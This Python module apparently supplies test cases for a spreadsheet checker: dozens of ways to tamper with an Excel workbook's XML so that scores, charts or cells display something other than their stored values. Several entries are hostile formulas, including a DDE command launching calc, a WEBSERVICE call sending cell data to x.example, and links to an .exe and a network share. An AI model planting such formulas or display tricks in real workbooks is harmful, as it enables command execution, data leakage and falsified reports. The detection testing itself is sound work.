"""Ways to let a package show something else than it holds, each a change of its parts."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Final, NamedTuple

if TYPE_CHECKING:
    from collections.abc import Callable

    from support.packages import Parts

SHEET, OTHER = "xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"
BOOK, STYLES, TYPES = "xl/workbook.xml", "xl/styles.xml", "[Content_Types].xml"
CHART, DRAWING = "xl/charts/chart1.xml", "xl/drawings/drawing1.xml"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"


class Attack(NamedTuple):
    """A change, and what has to be named: the kind, and words of its place."""

    change: Callable[[Parts], None]
    kind: str
    where: str


def _edit(parts: Parts, part: str, pattern: str, new: str | Callable[[re.Match[str]], str]) -> None:
    text, count = re.subn(pattern, new, parts[part].decode(), count=1, flags=re.DOTALL)
    assert count, (part, pattern)
    parts[part] = text.encode()


def _cell(parts: Parts, place: str, new: Callable[[str, str], str], part: str = SHEET) -> None:
    """Change a cell: `new` takes its attributes and what stands in it."""

    def changed(match: re.Match[str]) -> str:
        return new(match[1], match[2] or "")

    _edit(parts, part, rf'<c (r="{place}"[^>/]*)(?:/>|>(.*?)</c>)', changed)


def _restyle(parts: Parts, place: str, **values: str) -> None:
    """Give a cell a format of its own: `code`, `font`, `fill` or `alignment` as XML."""
    styles = parts[STYLES].decode()
    found = re.search(rf'<c r="{place}"[^>]* s="(\d+)"', parts[SHEET].decode())
    assert found is not None
    formats = re.search(r"<cellXfs[^>]*>(.*?)</cellXfs>", styles, re.DOTALL)
    assert formats is not None
    held = [each for each in re.split(r"(?=<xf )", formats[1]) if each]
    xf = held[int(found[1])]
    if "code" in values:
        xf = re.sub(r'numFmtId="\d+"', 'numFmtId="190"', xf)
        tag = f'<numFmt numFmtId="190" formatCode="{values["code"]}"/>'
        styles = re.sub(r"(<numFmts[^>]*>)", rf"\g<1>{tag}", styles)
    for name, list_name in (("font", "fonts"), ("fill", "fills")):
        if name in values:
            every = re.search(rf"<{list_name}[^>]*>(.*?)</{list_name}>", styles, re.DOTALL)
            assert every is not None
            number = len(re.findall(rf"<{name}[ >/]", every[1]))
            xf = re.sub(rf'{name}Id="\d+"', f'{name}Id="{number}"', xf)
            styles = styles.replace(f"</{list_name}>", f"{values[name]}</{list_name}>")
    if "alignment" in values:
        xf = re.sub(r"<alignment[^>]*/>", values["alignment"], xf)
        assert values["alignment"] in xf
    parts[STYLES] = styles.replace("</cellXfs>", f"{xf}</cellXfs>").encode()

    def changed(tag: str, inner: str) -> str:
        new = re.sub(r's="\d+"', f's="{len(held)}"', tag)
        return f"<c {new}>{inner}</c>"

    _cell(parts, place, changed)


def _relate(parts: Parts, owner: str, kind: str, target: str, *, external: bool = False) -> None:
    folder, _, name = owner.rpartition("/")
    rels = f"{folder}/_rels/{name}.rels"
    mode = ' TargetMode="External"' if external else ""
    tag = f'<Relationship Id="rId77" Type="{_OFFICE}/{kind}" Target="{target}"{mode}/>'
    old = parts.get(rels, f'<Relationships xmlns="{_PACKAGE}"></Relationships>'.encode())
    parts[rels] = old.replace(b"</Relationships>", f"{tag}</Relationships>".encode())


def _font(colour: str = "FF000000", more: str = "", size: str = "11") -> str:
    return f'<font>{more}<sz val="{size}"/><color rgb="{colour}"/><name val="Calibri"/></font>'


def _after_data(parts: Parts, xml: str, part: str = SHEET) -> None:
    """Put an element where Excel expects it: behind the rows or behind the merged areas."""
    pattern = r"</mergeCells>" if "</mergeCells>" in parts[part].decode() else r"</sheetData>"
    _edit(parts, part, pattern, lambda match: match[0] + xml)


def _number(parts: Parts, place: str, number: str) -> None:
    def changed(tag: str, inner: str) -> str:
        value = re.sub("<v>[^<]*</v>", f"<v>{number}</v>", inner)
        return f"<c {tag}>{value}</c>"

    _cell(parts, place, changed)


def _formula(parts: Parts, place: str, formula: str, part: str = SHEET) -> None:
    def changed(tag: str, inner: str) -> str:
        value = re.sub("<f>.*</f>", "", inner)
        return f"<c {tag}><f>{formula}</f>{value}</c>"

    _cell(parts, place, changed, part)


def _row(parts: Parts, number: int, values: str) -> None:
    _edit(
        parts,
        SHEET,
        rf'<row r="{number}"[^>]*?(/?)>',
        lambda match: f'<row r="{number}" {values}{match[1]}>',
    )


def _column(parts: Parts, number: int, values: str) -> None:
    pattern = rf'<col ([^>]*)min="{number}" max="{number}"([^>]*)/>'
    _edit(parts, SHEET, pattern, lambda _: f'<col min="{number}" max="{number}" {values}/>')


def _shape(parts: Parts, body: str, anchor: str = "") -> None:
    """Lay something over the first sheet."""
    name = "xl/drawings/drawing77.xml"
    place = anchor or (
        "<xdr:from><xdr:col>11</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>6</xdr:row>"
        "<xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:to><xdr:col>12</xdr:col><xdr:colOff>0"
        "</xdr:colOff><xdr:row>7</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to>"
    )
    root = parts[DRAWING].decode()
    start = re.search(r"<xdr:wsDr[^>]*>", root)
    assert start is not None
    parts[name] = (
        f"{start[0]}<xdr:twoCellAnchor>{place}{body}<xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>"
    ).encode()
    parts[TYPES] = parts[TYPES].replace(
        b"</Types>",
        b'<Override PartName="/xl/drawings/drawing77.xml" ContentType="application/vnd.'
        b'openxmlformats-officedocument.drawing+xml"/></Types>',
    )
    _relate(parts, SHEET, "drawing", "/xl/drawings/drawing77.xml")
    _edit(
        parts,
        SHEET,
        "</worksheet>",
        f'<drawing xmlns:r="{_OFFICE}" r:id="rId77"/></worksheet>',
    )


_BOX: Final = (
    '<xdr:sp><xdr:nvSpPr><xdr:cNvPr id="9" name="9"/><xdr:cNvSpPr txBox="1"/></xdr:nvSpPr>'
    '<xdr:spPr><a:prstGeom prst="rect"><a:avLst/></a:prstGeom><a:solidFill>'
    '<a:srgbClr val="FFFFFF"/></a:solidFill></xdr:spPr>'
    "<xdr:txBody><a:bodyPr/><a:p><a:r><a:t>99.91</a:t></a:r></a:p>"
    "</xdr:txBody></xdr:sp>"
)


def _part(parts: Parts, owner: str, kind: str, name: str, data: bytes) -> None:
    parts[name] = data
    _relate(parts, owner, kind, f"/{name}")


def _swap_anchor(parts: Parts) -> None:
    _edit(parts, DRAWING, r"<xdr:row>3</xdr:row>", "<xdr:row>40</xdr:row>")
    _edit(parts, DRAWING, r"<xdr:row>14</xdr:row>", "<xdr:row>51</xdr:row>")


def _runs(parts: Parts) -> None:
    def changed(tag: str, inner: str) -> str:
        del inner
        plain = re.sub(r' t="\w+"', "", tag)
        run = (
            f'<r><rPr><sz val="11"/><color rgb="FFFFFFFF"/></rPr><t>{_ZONE[:2]}</t></r>'
            f'<r><rPr><sz val="11"/></rPr><t>{_ZONE[2:]}</t></r>'
        )
        return f'<c {plain} t="inlineStr"><is>{run}</is></c>'

    _cell(parts, "C7", changed)


def _raise_a_self_check(parts: Parts) -> None:
    _number(parts, "F23", "100")
    _number(parts, "P23", "99.9")


def _cross_out(parts: Parts) -> None:
    styles = parts[STYLES].decode().replace("<border>", '<border diagonalUp="1">')
    parts[STYLES] = styles.replace("<diagonal/>", '<diagonal style="thick"/>').encode()


def _link(parts: Parts) -> None:
    _relate(parts, SHEET, "hyperlink", "file:///c:/a.exe", external=True)
    link = f'<hyperlinks xmlns:r="{_OFFICE}"><hyperlink ref="A1" r:id="rId77"/></hyperlinks>'
    _edit(parts, SHEET, "</mergeCells>", f"</mergeCells>{link}")


_ZONE: Final = "臨溪苑"
_DXF: Final = '<dxf><font><color rgb="FFFFFFFF"/></font></dxf>'


def _condition(
    parts: Parts, rule: str, dxf: str = _DXF, part: str = SHEET, area: str = "L7"
) -> None:
    styles = parts[STYLES].decode()
    count = len(re.findall(r"<dxf>|<dxf/>", styles))
    if "<dxfs" in styles:
        styles = styles.replace("</dxfs>", f"{dxf}</dxfs>")
    else:
        styles = styles.replace("</cellStyles>", f"</cellStyles><dxfs>{dxf}</dxfs>")
    parts[STYLES] = styles.encode()
    _after_data(
        parts,
        f'<conditionalFormatting sqref="{area}"><cfRule type="expression" dxfId="{count}" '
        f'priority="1"><formula>{rule}</formula></cfRule></conditionalFormatting>',
        part,
    )


def _name(parts: Parts, name: str, text: str, scope: str = "") -> None:
    tag = f'<definedName name="{name}"{scope}>{text}</definedName>'
    if "<definedNames>" in parts[BOOK].decode():
        _edit(parts, BOOK, "</definedNames>", f"{tag}</definedNames>")
    else:
        _edit(parts, BOOK, "</sheets>", f"</sheets><definedNames>{tag}</definedNames>")


ATTACKS: Final[dict[str, Attack]] = {
    # numbers and formulas
    "another self check, and the rank that follows from it": Attack(
        _raise_a_self_check, "changed", "F23"
    ),
    "another score beside its formula": Attack(
        lambda p: _number(p, "L7", "99.91"), "changed", "L7"
    ),
    "a formula that computes another score": Attack(
        lambda p: _formula(p, "L7", "99.91+0"), "formula", "L7"
    ),
    "a formula of nothing in an empty cell": Attack(
        lambda p: _edit(
            p, SHEET, r'(<row r="13"[^>]*?)/>', r'\1><c r="L13" t="str"><f>100</f><v></v></c></row>'
        ),
        "formula",
        "L13",
    ),
    "a formula in the statistics whose stored result is the old one": Attack(
        lambda p: _formula(p, "B44", "30.0*10", OTHER), "formula", "B44"
    ),
    "an array formula in place of a plain one": Attack(
        lambda p: _edit(p, SHEET, r'(<c r="L7"[^>]*>)<f>', r'\1<f t="array" ref="L7">'),
        "formula",
        "L7",
    ),
    "WEBSERVICE": Attack(
        lambda p: _formula(p, "B44", "WEBSERVICE(&quot;http://x.example/&quot;&amp;A1)", OTHER),
        "reach",
        "B44",
    ),
    "DDE": Attack(lambda p: _formula(p, "B44", "cmd|'/c calc'!A0", OTHER), "reach", "B44"),
    "a reference into another file": Attack(
        lambda p: _formula(p, "B44", "[1]Sheet1!A1", OTHER), "reach", "B44"
    ),
    "HYPERLINK to a file": Attack(
        lambda p: _formula(p, "B44", "HYPERLINK(&quot;\\\\\\\\host\\\\share&quot;,30)", OTHER),
        "reach",
        "B44",
    ),
    "a text where a number stood": Attack(
        lambda p: _cell(p, "A4", lambda tag, _: f'<c {tag} t="str"><v>0.3 </v></c>'),
        "changed",
        "A4",
    ),
    "a value far below the table": Attack(
        lambda p: _edit(
            p, SHEET, "</sheetData>", '<row r="900"><c r="B900"><v>1</v></c></row></sheetData>'
        ),
        "changed",
        "B900",
    ),
    # looks
    "a format that shows other digits": Attack(
        lambda p: _restyle(p, "L7", code="&quot;99.91&quot;"), "look", "L7"
    ),
    "a format that shows nothing": Attack(lambda p: _restyle(p, "L7", code=";;;"), "look", "L7"),
    "a format that adds a digit": Attack(
        lambda p: _restyle(p, "L7", code="&quot;9&quot;0.00"), "look", "L7"
    ),
    "white on white": Attack(lambda p: _restyle(p, "L7", font=_font("FFFFFFFF")), "look", "L7"),
    "black on black": Attack(
        lambda p: _restyle(
            p,
            "L7",
            fill='<fill><patternFill patternType="solid"><fgColor rgb="FF000000"/>'
            "</patternFill></fill>",
        ),
        "look",
        "L7",
    ),
    "a font of one point": Attack(lambda p: _restyle(p, "L7", font=_font(size="1")), "look", "L7"),
    "a font of symbols": Attack(
        lambda p: _restyle(p, "L7", font=_font().replace("Calibri", "Wingdings")), "look", "L7"
    ),
    "struck out": Attack(lambda p: _restyle(p, "L7", font=_font(more="<strike/>")), "look", "L7"),
    "turned on its head": Attack(
        lambda p: _restyle(
            p, "L7", alignment='<alignment horizontal="center" textRotation="180"/>'
        ),
        "look",
        "L7",
    ),
    "a name half of which is white": Attack(_runs, "look", "C7"),
    # sizes
    "a hidden row": Attack(lambda p: _row(p, 8, 'hidden="1"'), "hidden", "8"),
    "a row without height": Attack(lambda p: _row(p, 8, 'ht="0" customHeight="1"'), "hidden", "8"),
    "a row of one point": Attack(lambda p: _row(p, 8, 'ht="1" customHeight="1"'), "hidden", "8"),
    "a hidden column": Attack(lambda p: _column(p, 8, 'width="9" hidden="1"'), "hidden", "H"),
    "a column too narrow for its numbers": Attack(
        lambda p: _column(p, 12, 'width="1" customWidth="1"'), "hidden", "L"
    ),
    # around the cells
    "merged cells that cover a score": Attack(
        lambda p: _edit(p, SHEET, "</mergeCells>", '<mergeCell ref="L8:N8"/></mergeCells>'),
        "frame",
        "L8:N8",
    ),
    "a condition that whitens a score": Attack(lambda p: _condition(p, "TRUE"), "frame", "L7"),
    "a condition that shows other digits": Attack(
        lambda p: _condition(
            p, "TRUE", '<dxf><numFmt numFmtId="191" formatCode="&quot;99&quot;"/></dxf>'
        ),
        "frame",
        "L7",
    ),
    "a print area without the last zones": Attack(
        lambda p: _edit(p, BOOK, r"\$A\$1:\$[A-Z]+\$\d+(?=</definedName>)", "$A$1:$Q$9"),
        "frame",
        "列印範圍",
    ),
    "a name": Attack(lambda p: _name(p, "得分", "1"), "part", "workbook"),
    "zeros that are not shown": Attack(
        lambda p: _edit(p, SHEET, "<sheetView ", '<sheetView showZeros="0" '), "frame", "顯示零"
    ),
    "a sheet from right to left": Attack(
        lambda p: _edit(p, SHEET, "<sheetView ", '<sheetView rightToLeft="1" '), "frame", "從右到左"
    ),
    "rows frozen out of sight": Attack(
        lambda p: _edit(p, SHEET, "<sheetView ", '<sheetView topLeftCell="A9" '), "frame", "凍結"
    ),
    "another footer": Attack(
        lambda p: _edit(
            p,
            SHEET,
            r"<headerFooter.*?</headerFooter>|</worksheet>",
            lambda m: (
                "<headerFooter><oddFooter>&amp;C作廢</oddFooter></headerFooter>"
                + ("</worksheet>" if m[0] == "</worksheet>" else "")
            ),
        ),
        "frame",
        "頁首頁尾",
    ),
    "a hidden sheet": Attack(
        lambda p: _edit(p, BOOK, r'(<sheet name="月度統計")', r'\1 state="hidden"'),
        "frame",
        "顯示狀態",
    ),
    "dates that count from 1904": Attack(
        lambda p: _edit(p, BOOK, "<workbookPr", '<workbookPr date1904="1"'), "frame", "日期起點"
    ),
    # drawn
    "a box over a score": Attack(lambda p: _shape(p, _BOX), "drawn", "圖形"),
    "a chart that was moved over the numbers": Attack(_swap_anchor, "drawn", "圖表"),
    "other values in a chart": Attack(
        lambda p: _edit(p, CHART, r"(<c:numCache>.*?<c:v>)[^<]*", r"\g<1>999"), "drawn", "圖表"
    ),
    "another title of a chart": Attack(
        lambda p: _edit(p, CHART, r"(<a:t>)[^<]*", r"\1全部滿意"), "drawn", "圖表"
    ),
    "an axis that makes a chart look better": Attack(
        lambda p: _edit(p, CHART, r"<c:scaling>", '<c:scaling><c:max val="9999"/>'), "drawn", "圖表"
    ),
    "a series that cannot be seen": Attack(
        lambda p: _edit(
            p, CHART, r"(<c:ser>.*?<c:spPr>)<a:solidFill>.*?</a:solidFill>", r"\1<a:noFill/>"
        ),
        "drawn",
        "圖表",
    ),
    "labels with a format of their own": Attack(
        lambda p: _edit(
            p,
            CHART,
            r"<c:dLbls>",
            '<c:dLbls><c:dLbl><c:idx val="0"/><c:numFmt formatCode="&quot;1&quot;" '
            'sourceLinked="0"/></c:dLbl>',
        ),
        "drawn",
        "圖表",
    ),
    "a series in white": Attack(
        lambda p: _edit(p, CHART, r'(<c:ser>.*?<a:srgbClr val=")\w{6}', r"\g<1>FFFFFF"),
        "drawn",
        "圖表",
    ),
    # what programs read in different ways
    "a score that a quick look overlooks": Attack(
        lambda p: _edit(p, SHEET, r'(<c r="L7"[^>]*>.*?<v>)[^<]*</v>', r"\g<1>80.91</v >"),
        "changed",
        "L7",
    ),
    "a formula that a quick look overlooks": Attack(
        lambda p: _edit(
            p,
            OTHER,
            r'(<c r="B44"[^>]*>)',
            r'\1<f>WEBSERVICE("http://x.example/")</f >',
        ),
        "reach",
        "B44",
    ),
    "a value of nobody's namespace": Attack(
        lambda p: _edit(p, SHEET, r'(<c r="L7"[^>]*>.*?)<v>', r'\1<v xmlns="urn:q">1</v><v>'),
        "part",
        SHEET,
    ),
    "a second workbook": Attack(
        lambda p: _edit(
            p,
            "_rels/.rels",
            "</Relationships>",
            '<Relationship Id="rId88" Type="urn:x/officeDocument" Target="/xl/workbook.xml"/>'
            "</Relationships>",
        ),
        "part",
        "",
    ),
    "a truth that is neither yes nor no": Attack(
        lambda p: _row(p, 8, 'hidden="on"'), "part", SHEET
    ),
    "a row folded away": Attack(
        lambda p: _row(p, 8, 'outlineLevel="1" collapsed="1"'), "part", "8"
    ),
    "a point between quotes": Attack(
        lambda p: _restyle(p, "L7", code="0&quot;.&quot;00"), "look", "L7"
    ),
    "digits of another writing": Attack(
        lambda p: _restyle(p, "L7", code="[$-2000401]0.00"), "look", "L7"
    ),
    "ink of the system's paper": Attack(
        lambda p: _restyle(p, "L7", font=_font().replace('rgb="FF000000"', 'indexed="65"')),
        "look",
        "L7",
    ),
    "paper of the system's ink": Attack(
        lambda p: _restyle(
            p,
            "L7",
            fill='<fill><patternFill patternType="solid"><fgColor indexed="64"/>'
            "</patternFill></fill>",
        ),
        "look",
        "L7",
    ),
    "ink of two colours": Attack(
        lambda p: _restyle(p, "L7", font=_font().replace("rgb=", 'theme="0" rgb=')), "look", "L7"
    ),
    "a theme whose ink is white": Attack(
        lambda p: _edit(
            p,
            "xl/theme/theme1.xml",
            r"<a:dk1>.*?</a:dk1>",
            '<a:dk1><a:sysClr val="window" lastClr="000000"/></a:dk1>',
        ),
        "part",
        "theme",
    ),
    "a print area by another spelling": Attack(
        lambda p: _name(
            p,
            "_xlnm.PRINT_AREA",
            "'考核 2026-10'!$A$1:$Q$9",
            ' localSheetId="0"',
        ),
        "part",
        "workbook",
    ),
    "a column of nine tenths, and less": Attack(
        lambda p: _column(p, 12, 'width="7" customWidth="1"'), "hidden", "L"
    ),
    "pages printed at a tenth": Attack(
        lambda p: _edit(p, SHEET, 'fitToPage="1"', 'fitToPage="0"'), "frame", "列印縮放"
    ),
    "results that nobody computes": Attack(
        lambda p: _edit(p, BOOK, "</sheets>", '</sheets><calcPr calcMode="manual"/>'),
        "part",
        BOOK,
    ),
    "crossed out": Attack(_cross_out, "look", ""),
    # parts
    "a picture fetched from elsewhere": Attack(
        lambda p: _relate(p, DRAWING, "image", "http://x.example/a.png", external=True),
        "reach",
        DRAWING,
    ),
    "a link at a cell": Attack(
        _link,
        "reach",
        SHEET,
    ),
    "a picture behind the cells": Attack(
        lambda p: _edit(
            p, SHEET, "</worksheet>", f'<picture xmlns:r="{_OFFICE}" r:id="rId1"/></worksheet>'
        ),
        "part",
        "考核",
    ),
    "a note at a cell": Attack(
        lambda p: _part(p, SHEET, "comments", "xl/comments1.xml", b"<comments/>"), "part", SHEET
    ),
    "an embedded file": Attack(
        lambda p: _part(p, SHEET, "oleObject", "xl/embeddings/a.bin", b"x"), "part", SHEET
    ),
    "macros": Attack(
        lambda p: _part(p, BOOK, "vbaProject", "xl/vbaProject.bin", b"x"), "part", BOOK
    ),
    "a part that nothing refers to": Attack(
        lambda p: p.update({"xl/worksheets/sheet9.xml": b"<worksheet/>"}), "part", "sheet9"
    ),
    "sparklines in an extension": Attack(
        lambda p: _edit(
            p,
            SHEET,
            "</worksheet>",
            '<extLst><ext uri="{05C60535-1F16-4fd2-B633-F4F36F0B64E0}"><x14:sparklineGroups '
            'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"/></ext></extLst></worksheet>',
        ),
        "part",
        "考核",
    ),
    "a prompt that pops up": Attack(
        lambda p: _after_data(
            p,
            '<dataValidations count="1"><dataValidation sqref="A1" showInputMessage="1" '
            'prompt="改過"/></dataValidations>',
        ),
        "part",
        "考核",
    ),
    "shapes over a chart": Attack(
        lambda p: _part(p, CHART, "chartUserShapes", "xl/drawings/drawing9.xml", b"<x/>"),
        "part",
        CHART,
    ),
}
